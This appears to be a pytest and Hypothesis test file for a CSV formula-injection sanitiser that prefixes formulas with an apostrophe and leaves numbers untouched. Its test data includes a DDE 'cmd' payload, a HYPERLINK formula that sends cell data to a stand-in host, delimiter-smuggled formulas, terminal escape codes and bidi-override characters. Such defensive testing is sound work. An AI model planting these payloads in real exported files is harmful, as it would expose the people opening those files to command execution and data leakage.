"""What a spreadsheet would compute stands behind an apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.documents.printable import inert


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://x/?"&A1)',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-A1",
        "-1+E5",
        "-(E5)",
        "@SUM(A1)",
        "\tA1",
        "\rA1",
        "+1+1",
        "-\u0661x",
        "\uff1d1+1",
        "\uff0bA1",
        "\uff0dA1",
        "\uff20SUM(A1)",
    ],
)
def test_a_formula_is_shown_and_not_computed(cell: str) -> None:
    assert inert(cell) == f"'{cell}"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("-1\n=2", "'-1\n'=2"),
        ("Order;=1+cmd|'/C calc'!A0;", "Order;'=1+cmd|'/C calc'!A0;"),
        ("a;+1;-1;@SUM(A1)", "a;'+1;'-1;'@SUM(A1)"),
        ("a;\uff1d1+1", "a;'\uff1d1+1"),
        ('a;""=1', 'a;\'""=1'),
        ("a; b\tc", "a; b\tc"),
        ("\x1b]0;x\x07\x9b2J\x7f", r"\x1b]0;x\x07\x9b2J\x7f"),
        ("Ana \u202eselbaT\u2066\u2028", r"Ana \u202eselbaT\u2066\u2028"),
        ("\u200fOrtiz\0", r"\u200fOrtiz\x00"),
    ],
)
def test_what_is_a_formula_to_who_divides_otherwise_is_shown(cell: str, shown: str) -> None:
    assert inert(cell) == shown


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@given(st.lists(st.text('=+-@\uff1d\uff20;,\t\n"a1 '), min_size=1))
def test_no_cell_is_a_formula_however_a_line_is_divided(delimiter: str, cells: list[str]) -> None:
    file = io.StringIO()
    csv.writer(file).writerow(["first", *map(inert, cells)])
    rows = csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=delimiter)
    seen = [cell for row in rows for cell in row]
    assert [cell for cell in seen if cell[:1] in {*"=+-@\uff1d\uff20"} and "a" in cell] == []


@pytest.mark.parametrize(
    "cell",
    ["", "-", "-1", "-1.5", "+4,5", "-1.5E-3", "+1 (555) 010-0100", "-5 %", "--", "a=b", "North"],
)
def test_numbers_and_words_stay_as_they_are(cell: str) -> None:
    assert inert(cell) == cell


@given(st.text())
def test_a_cell_is_changed_once_at_most(cell: str) -> None:
    assert inert(inert(cell)) == inert(cell)
